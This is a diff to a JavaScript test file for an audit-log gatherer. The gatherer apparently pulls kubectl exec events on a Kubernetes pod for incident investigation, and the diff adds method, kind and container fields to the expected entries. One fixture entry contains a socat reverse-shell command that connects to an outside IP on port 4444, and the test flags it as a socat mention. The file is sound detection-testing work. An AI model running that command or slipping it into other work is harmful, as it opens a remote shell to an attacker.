@@ -350,29 +350,35 @@ describe('auditLogs', () => {
   test('pulls out kubectl exec into this pod only, with the command when the entry has it', async () => {
     const section = await auditLogs.gather(context(finding).ctx);
     const ua = 'kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234';
+    const m = { kind: 'exec', method: 'io.k8s.core.v1.pods.exec.create' };
     expect(section.execs).toEqual([
       {
+        ...m,
         time: at(-12).toISOString(),
         principal: 'alice@example.com',
         callerIp: '203.0.113.7',
         userAgent: ua,
         command: ['sh', '-c', 'socat exec:/bin/sh,pty,stderr tcp:203.0.113.50:4444'],
+        container: 'checkout',
         namespace: NS,
         pod: POD,
         mentionsSocat: true,
       },
-      { time: at(-8).toISOString(), principal: 'bob@example.com', callerIp: '203.0.113.7', userAgent: ua, command: null, namespace: NS, pod: POD, mentionsSocat: false },
+      { ...m, time: at(-8).toISOString(), principal: 'bob@example.com', callerIp: '203.0.113.7', userAgent: ua, command: null, container: null, namespace: NS, pod: POD, mentionsSocat: false },
       {
+        ...m,
         time: at(-6).toISOString(),
         principal: 'carol@example.com',
         callerIp: '203.0.113.7',
         userAgent: ua,
         command: ['mysql', '--password=[REDACTED:password]'],
+        container: 'checkout',
         namespace: NS,
         pod: POD,
         mentionsSocat: false,
       },
     ]);
+    expect(section.refused).toEqual([]);
   });
 
   test('pulls out creates, patches and deletes of this pod, not its status updates', async () => {
